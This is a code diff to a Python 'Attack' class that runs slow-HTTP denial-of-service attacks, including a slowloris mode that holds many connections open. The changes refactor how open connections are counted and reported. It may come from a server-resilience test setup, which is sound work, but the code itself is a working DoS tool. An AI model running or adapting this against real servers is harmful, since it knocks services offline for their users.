@@ -39,6 +39,7 @@ class Attack:
         self.sockets = {}  # socket -> [connected, next byte time]
         self.opened = 0
         self.closed_by_server = 0
+        self.connected_now = 0
         self.peak_connected = 0
         self.request = ("GET %s HTTP/1.1\r\nHost: a\r\n" % arguments.path).encode()
 
@@ -60,7 +61,8 @@ class Attack:
 
     def drop(self, sock, by_server):
         self.selector.unregister(sock)
-        del self.sockets[sock]
+        if self.sockets.pop(sock)[0]:
+            self.connected_now -= 1
         sock.close()
         if by_server:
             self.closed_by_server += 1
@@ -68,6 +70,8 @@ class Attack:
     def connected(self, sock, now):
         state = self.sockets[sock]
         state[0] = True
+        self.connected_now += 1
+        self.peak_connected = max(self.peak_connected, self.connected_now)
         self.selector.modify(sock, selectors.EVENT_READ)
         mode = self.arguments.mode
         if mode == "slowloris":
@@ -77,7 +81,7 @@ class Attack:
             sock.send(self.request + b"\r\n")
             self.selector.unregister(sock)  # never reads; the server's closing goes unseen
 
-    def on_event(self, sock, events, now):
+    def on_event(self, sock, now):
         state = self.sockets[sock]
         if not state[0]:
             if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
@@ -111,17 +115,15 @@ class Attack:
                 budget -= 1
                 if not self.open_one():
                     break
-            for key, events in self.selector.select(timeout=0.01):
+            for key, _ in self.selector.select(timeout=0.01):
                 if key.fileobj in self.sockets:
-                    self.on_event(key.fileobj, events, now)
+                    self.on_event(key.fileobj, now)
             if arguments.mode == "slowloris" and now >= next_trickle:
                 self.trickle(now)
                 next_trickle = now + 0.5
-            self.peak_connected = max(self.peak_connected,
-                                      sum(1 for state in self.sockets.values() if state[0]))
-        print("attack %s from %s: %d connections opened, %d closed by the server, "
-              "at most %d open at once as it saw them" % (arguments.mode, arguments.source, self.opened,
-                                           self.closed_by_server, self.peak_connected),
+        print("attack %s from %s: %d connections opened, %d closed by the server, at most %d "
+              "open at once as it saw them" % (arguments.mode, arguments.source, self.opened,
+                                               self.closed_by_server, self.peak_connected),
               flush=True)
 
 
